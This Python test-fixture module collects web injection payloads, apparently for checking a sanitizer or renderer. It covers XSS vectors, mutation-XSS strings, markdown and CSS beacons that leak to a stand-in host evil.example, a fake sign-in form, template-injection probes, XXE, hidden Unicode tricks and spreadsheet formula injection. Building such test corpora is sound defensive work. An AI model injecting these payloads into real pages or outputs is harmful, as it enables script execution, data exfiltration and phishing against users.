"""Texts that would run, load, look like something else or break out if a page took them for more than text.

Whatever runs sets `window.__xss`; whatever loads asks `evil.example`.
"""

from __future__ import annotations

import base64

RUN = "window.__xss=1"
EVIL = "http://evil.example"
_ENCODED = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={EVIL}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    f'<script src="data:text/javascript,{RUN}"></script>',
)
ELEMENTS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><rect width=99 height=99></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml;base64,{_ENCODED}#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext href=javascript:{RUN}>x</mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={EVIL}/x.swf></object>",
    f"<object data='data:text/html;base64,{_ENCODED}'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<form action={EVIL}><input name=csrf><button>Sign in again</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<video poster={EVIL}/x.png><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
    f'"><svg/onload={RUN}>',
    f"'><svg/onload={RUN}>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} x=`",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"<div hx-get={EVIL} hx-trigger=load hx-on:click={RUN}>x</div>",
)
MUTATING = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<select><noscript></select><img src=x onerror={RUN}>",
    f"<a id=csrf><a id=csrf name=value href={EVIL}>x</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C%2Fscript%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html;base64,{_ENCODED}",
    f"vbscript:{RUN}",
    f"//{EVIL[7:]}/x",
    f"/\\{EVIL[7:]}/x",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='{EVIL}' ping='{EVIL}' target=_blank>x</a>",
)
MARKDOWN = (
    f"![a]({EVIL}/p.png?leak=1)",
    f"![a][r]\n\n[r]: {EVIL}/p.png",
    f"[sign in]({EVIL})",
    f"[x](javascript:{RUN})",
    f"<{EVIL}>",
    f"{EVIL}/plain and www.evil.example and a@evil.example",
    f"[![x]({EVIL}/in.png)]({EVIL})",
    "```html\n<b>x</b>\n```\n| a | b |\n|---|---|\n# heading",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "{nosuch} {0} %s %(x)s",
)
STYLES = (
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<p style="background:url({EVIL}/x);position:fixed;inset:0">x</p>',
    f"x;background:url({EVIL}/x)",
)
HIDDEN = (
    "pass\u202egnp.exe\u202c",
    "\u2066abc\u2069\u200f\u061c",
    "nul\x00 bell\x07 del\x7f c1\x9b",
    "two\u2028lines\u2029here\u0085next",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    f"\x1b]8;;{EVIL}\x07link\x1b]8;;\x07",
    "Z" + "\u0336\u0337\u0338\u0334\u0335" * 4,
)
COMMENTS = (
    "<!-- evalgate:other -->",
    f"--><img src=x onerror={RUN}><!--",
    f"--!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='{EVIL}/x.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/e'>]>&e;",
    f"<![if true]><img src=x onerror={RUN}><![endif]>",
)
POLYGLOTS = (
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"';{RUN};//\";{RUN};//--></script>\">'><img src=x onerror={RUN}>",
    f'"]}}}};{RUN};//<!--<script>\\"\'`{{{{7*7}}}}${{7*7}}',
)
FORMULAS = ("=1+1", '=HYPERLINK("http://evil.example")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1")
"""What a spreadsheet would reckon."""

PAYLOADS = (
    *SCRIPTS,
    *ELEMENTS,
    *HANDLERS,
    *MUTATING,
    *ADDRESSES,
    *MARKDOWN,
    *TEMPLATES,
    *STYLES,
    *HIDDEN,
    *COMMENTS,
    *POLYGLOTS,
    *FORMULAS,
)
WHOLE = " ".join(PAYLOADS)
"""All of them in one text."""
